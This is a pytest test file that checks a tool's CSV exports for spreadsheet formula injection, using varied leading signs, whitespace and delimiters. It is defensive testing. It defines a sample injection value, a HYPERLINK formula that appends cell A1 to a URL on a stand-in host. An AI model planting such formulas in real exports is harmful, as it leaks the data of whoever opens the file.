"""What a file or the site says becomes no formula in a CSV that people open."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest

from tests.support.site import Site
from toolsync.reporting.tables import Table, defused, defused_comment, write_table

EVIL = "=HYPERLINK(\"http://example.org/\"&A1;'x')"
SIGNS = "=+-@＝＋－＠"


@pytest.mark.parametrize(
    "cell",
    [
        *(f"{sign}1+1" for sign in SIGNS),
        *(f"{space}=1+1" for space in (" ", "\t", "\r", "\n", "\u00a0", "\u3000", "\u200b", "\ufeff", " \t ")),
        "\tplain",
        "\rplain",
        "-",
        "-5+A1",
        "+33 1 23 45 67",
        "-5%",
        "--5",
        "@SUM(A1)",
    ],
)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(cell: str):
    assert defused(cell).startswith("'") and defused(cell).replace("'", "") == cell
    assert runs(written([cell])) == []


@pytest.mark.parametrize(
    "cell",
    [-5, -5.5, 0, None, True, "", "-5", "+5", "-1.5", "-1,5", " -5", "ada", "a=b", "a-b", "a@example.org", "a + b", "'=1", "Ö", "_x", "5;6", "a|b", "a\nb"],
)  # fmt: skip
def test_numbers_and_other_texts_stay(cell: Any):
    assert defused(cell) is cell or defused(cell) == cell


@pytest.mark.parametrize("cut", [";", "\t", "\n", "\r", "|"])
@pytest.mark.parametrize("text", ["=1+1", " =1+1", '"=1+1"', "＝1+1"])
def test_a_cell_that_is_cut_at_another_delimiter_has_no_formula_in_its_parts(cut: str, text: str):
    assert runs(written([f"harmless{cut}{text}"])) == []


@pytest.mark.parametrize("text", ["x,=1+1", 'x,"=1+1"', "x, @A1", "x;=1+1", "x\t=1+1", "x,＝1"])
def test_a_comment_that_is_cut_into_cells_has_no_formula_in_its_parts(text: str):
    assert runs(f"# {text}\n") != []
    assert runs(f"# {defused_comment(text)}\n") == []


def test_a_carriage_return_does_not_end_a_row():
    assert list(csv.reader(io.StringIO(written(["a\rb"]), newline=""))) == [["line", "a\rb"]]


def test_a_comment_stays_as_it_is():
    text = "14 people, last access 2025-06-20, ended 2025-06-30: History I (Humanities / History), a=b; c"
    assert defused_comment(text) == text


def test_a_table_has_the_header_of_its_first_row():
    stream = io.StringIO()
    write_table(stream, ({"line": line, "=name": name} for line, name in ((2, "=1"), (3, None), (-4, "-4"))))
    assert stream.getvalue() == "line,'=name\n2,'=1\n3,\n-4,-4\n"
    empty = io.StringIO()
    write_table(empty, [])
    assert empty.getvalue() == ""


# The files


@pytest.mark.usefixtures("airflow")
def test_the_table_of_lines_runs_nothing_and_the_tryback_is_the_file(site: Site):
    text = f"username,firstname,lastname,email\n{quoted(EVIL)},A,B,a@example.org\nu001,,,@SUM(A1)\nu002,,,＝1\n"
    result = site.run("toolsync_users", text)
    assert Path(result["tryback"]).read_text() == text
    lines = Path(result["lines"]).read_text()
    assert "HYPERLINK" in lines and "@SUM" in lines
    assert runs(lines) == []


@pytest.mark.usefixtures("airflow")
def test_the_plan_runs_nothing(site: Site):
    site.rows("UPDATE {course} SET fullname = %s WHERE shortname = 'C106'", (EVIL,))
    result = site.run("toolsync_courses_delete", "shortname\nC106\n", approve="no")
    plan = Path(result["attachments"]["plan"]).read_text()
    assert "HYPERLINK" in plan and runs(plan) == []
    assert result["plan_rows"][0]["fullname"] == EVIL, "JSON is for programs"


@pytest.mark.usefixtures("airflow")
def test_the_answer_runs_nothing(site: Site):
    result = site.run("toolsync_courses_check", f"shortname,description\nC106,{quoted(EVIL)}\n=1,x\n")
    answer = Path(result["attachments"]["answer"]).read_text()
    assert "HYPERLINK" in answer and "=1" in answer and runs(answer) == []


@pytest.mark.usefixtures("airflow")
@pytest.mark.parametrize("file_type", ["courses_delete", "courses_reset"])
def test_what_a_file_to_review_says_of_a_course_runs_nothing(site: Site, file_type: str):
    site.rows("UPDATE {course} SET fullname = %s WHERE shortname = 'C106'", (f"Good course,{EVIL};{EVIL}",))
    path = site.run("toolsync_make_command_file", what=file_type, shortname="C106")["path"]
    text = Path(path).read_text()
    assert "HYPERLINK" in text and runs(text) == []


@pytest.mark.usefixtures("airflow")
def test_the_identifier_of_a_file_to_review_stays_as_it_is(site: Site):
    site.rows("UPDATE {course} SET shortname = '=C106' WHERE shortname = 'C106'")
    made = site.run("toolsync_make_command_file", shortname="=C106")
    assert "\n=C106," in Path(made["path"]).read_text()
    result = site.run("toolsync_courses_delete", Path(made["path"]), approve="yes")
    assert result["counts"]["deleted"] == 1


@pytest.mark.usefixtures("airflow")
def test_the_list_of_empty_categories_runs_nothing(site: Site):
    site.rows("UPDATE {course_categories} SET name = %s WHERE name = 'Empty branch'", (EVIL,))
    result = site.run("toolsync_categories_clean", approve="yes", accept_stale_caches=True)
    for path in (result["archive"], result["lines"], result["attachments"]["plan"]):
        text = Path(path).read_text()
        assert "HYPERLINK" in text and runs(text) == []


def quoted(cell: str) -> str:
    return '"' + cell.replace('"', '""') + '"'


def written(cells: list[Any]) -> str:
    stream = io.StringIO()
    Table(stream).row(["line", *cells])
    return stream.getvalue()


def runs(text: str) -> list[str]:
    """The cells that a spreadsheet would run, by whichever delimiter it cuts the lines."""
    cells = [
        cell
        for delimiter in ",;\t|"
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for cell in row
    ]
    cells += [cell for line in text.splitlines() for cell in line.split(";")]
    return [cell for cell in cells if runs_alone(cell)]


def runs_alone(cell: str) -> bool:
    said = cell.strip(' \t\r\n"\u00a0\u3000\u200b\ufeff')
    number = said.replace(",", ".", 1)
    return said.startswith(tuple(SIGNS)) and not number.lstrip("+-").replace(".", "", 1).isdigit()
